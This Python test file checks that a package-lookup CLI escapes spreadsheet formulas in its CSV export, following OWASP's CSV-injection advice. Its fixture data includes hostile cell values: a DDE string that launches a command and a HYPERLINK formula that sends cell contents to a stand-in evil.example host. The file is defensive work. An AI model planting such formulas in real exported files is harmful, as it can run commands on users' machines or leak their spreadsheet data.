"""``pkgtui grid --csv`` opened in a spreadsheet: text from the API never becomes a formula.

Cells that a spreadsheet would read as a formula (starting = + - @, tab or CR, also after
leading spaces or controls, which cleaning removes anyway) get a leading ``'``, as OWASP
advises; counts stay bare numbers; plain and JSON output keep the text as the API gave it.
"""

from __future__ import annotations

import csv
import io
import json
import re

import pytest

from pkgtui.api import open_client
from pkgtui.api.demo import DemoAPI, sample_packages
from pkgtui.exit_codes import EXIT_OK
from pkgtui.lookup.grid import FORMULA_STARTS, csv_text
from tests.cli.conftest import run_lookup

GRID_URL = "https://djangopackages.org/api/v4/grids/7/"
# What a hostile or careless API could send as titles and versions: (raw, as the CSV cell).
FORMULAS = {
    "=1+2": "'=1+2",
    "\t=1+2": "'=1+2",  # cleaning strips the tab, which used to leave a live =1+2
    "\r=1+2": "'=1+2",
    " \x00 @SUM(A1:A9)": "'@SUM(A1:A9)",
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    '=HYPERLINK("https://evil.example/?"&A1,"Click")': '\'=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "\x1b[31m=red": "'=red",  # an escape sequence in front
}


def formula_api() -> DemoAPI:
    """Grid 7's members, renamed to formulas; one version is a formula too."""
    members = [p for p in sample_packages() if GRID_URL in p["grids"]]
    others = [p for p in sample_packages() if GRID_URL not in p["grids"]]
    titles = list(FORMULAS)
    extra = [
        dict(members[0], id=90000 + n, slug=f"formula-{n}", title=title)
        for n, title in enumerate(titles[len(members) :])
    ]
    renamed = [dict(p, title=title) for p, title in zip(members, titles, strict=False)] + extra
    renamed[0] = dict(renamed[0], pypi_version="=1+1")
    packages = renamed + others
    api = DemoAPI(packages=packages)
    return api


def run_grid(fmt: str):
    api = formula_api()
    return run_lookup(["grid", "7", f"--{fmt}"], client=open_client(api.base_url, transport=api.transport()))


def test_csv_cells_that_would_be_formulas_are_text():
    result = run_grid("csv")
    assert result.code == EXIT_OK, result.err
    header, *rows = list(csv.reader(io.StringIO(result.out)))
    name, version = header.index("name"), header.index("version")
    names = sorted(row[name] for row in rows)
    assert names == sorted(FORMULAS.values())
    assert "'=1+1" in [row[version] for row in rows]
    for row in rows:
        for cell in row:
            if re.fullmatch(r"-?[0-9]+", cell):
                continue  # a number (a score below zero: "-117"), which a spreadsheet reads as one
            assert cell.lstrip(" \t\r\n\x00")[:1] not in FORMULA_STARTS, row
    # The counts are still bare numbers a spreadsheet can add up.
    stars, forks, participants = header.index("stars"), header.index("forks"), header.index("participants")
    assert all(row[i].isdigit() for row in rows for i in (stars, forks, participants))


def test_plain_and_json_keep_the_text_as_given():
    plain = run_grid("plain")
    assert plain.code == EXIT_OK
    assert "'=" not in plain.out and "=1+2" in plain.out and "@SUM(A1:A9)" in plain.out
    data = json.loads(run_grid("json").out)
    names = {row["name"] for row in data["packages"]}
    assert "=1+2" in names and "-2+3" in names and not any(name.startswith("'") for name in names)
    assert {row["stars"] for row in data["packages"]} <= {p["repo_watchers"] for p in sample_packages()}


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-1", "'-1"),  # text that looks like a negative number: text it is
        ("@x", "'@x"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),
        ("\x00\n@x", "'\x00\n@x"),
        ("django-otp", "django-otp"),
        ("1.7.0", "1.7.0"),
        ("–", "–"),  # the en dash of an unknown value is not a minus
        ("a=b", "a=b"),
        ("", ""),
        ("   ", "   "),
    ],
)
def test_csv_text(cell, written):
    assert csv_text(cell) == written
